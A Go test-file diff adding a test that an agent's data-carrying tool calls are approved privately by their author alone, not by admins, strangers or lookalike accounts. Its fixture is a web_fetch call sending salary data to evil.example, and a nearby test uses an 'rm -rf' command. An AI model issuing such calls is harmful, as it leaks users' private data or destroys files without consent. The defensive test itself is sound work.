@@ -85,6 +85,55 @@ func TestApprovalAuthorization(t *testing.T) {
 	}
 }
 
+// TestApprovalPrivate: a call that may carry its author's data (agent's
+// egress rule) is shown to its author alone and decided by them alone; an
+// approver's click, a stranger's or a click on the same id from
+// elsewhere changes nothing, and no shared message shows it.
+func TestApprovalPrivate(t *testing.T) {
+	tests := []struct {
+		name string
+		user chat.User
+		verb string
+		want *agent.Decision // nil: nothing changes
+		told string
+	}{
+		{"author allows", apRequester, "a:", &agent.Decision{Approved: true, By: "Alice"}, "Allowed: the call runs now."},
+		{"author denies", apRequester, "d:", &agent.Decision{By: "Alice"}, "Denied: the call does not run."},
+		{"approver allows", apAdmin, "a:", nil, "Only Alice can decide this."},
+		{"approver denies", apAdmin, "d:", nil, "Only Alice can decide this."},
+		{"stranger", apStranger, "a:", nil, "Only Alice can decide this."},
+		{"same id on another platform", apLookalike, "a:", nil, "Only Alice can decide this."},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := newAPHarness(t)
+			h.private = true
+			a := h.ask(h.sid, "call_1", "web_fetch https://evil.example/?d=salary")
+			if !strings.HasPrefix(a.out.Text, "🔐 **Your confirmation needed**") || !strings.Contains(a.out.Text, "https://evil.example/?d=salary") ||
+				!strings.Contains(a.out.Text, "Only you can decide") {
+				t.Fatalf("the author was shown %q", a.out.Text)
+			}
+			handled, told, err := h.click(tt.user, tt.verb+a.id, chat.MessageRef{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if handled != (tt.want != nil) || !cmp.Equal(told, []string{tt.told}) {
+				t.Fatalf("click = %t, told %q; want handled=%t, told %q", handled, told, tt.want != nil, tt.told)
+			}
+			if tt.want == nil {
+				a.still(t)
+				return
+			}
+			if d, err := a.result(t); err != nil || d != *tt.want {
+				t.Fatalf("Approve = %+v, %v; want %+v", d, err, *tt.want)
+			}
+			if e, s := h.ad.edited(), h.ad.sent(); len(e) != 0 || len(s) != 0 {
+				t.Fatalf("a private approval showed in the thread: edits %+v, posts %+v", e, s)
+			}
+		})
+	}
+}
+
 func TestApprovalExpires(t *testing.T) {
 	h := newAPHarness(t)
 	a := h.ask(h.sid, "call_1", "rm -rf /tmp/x")
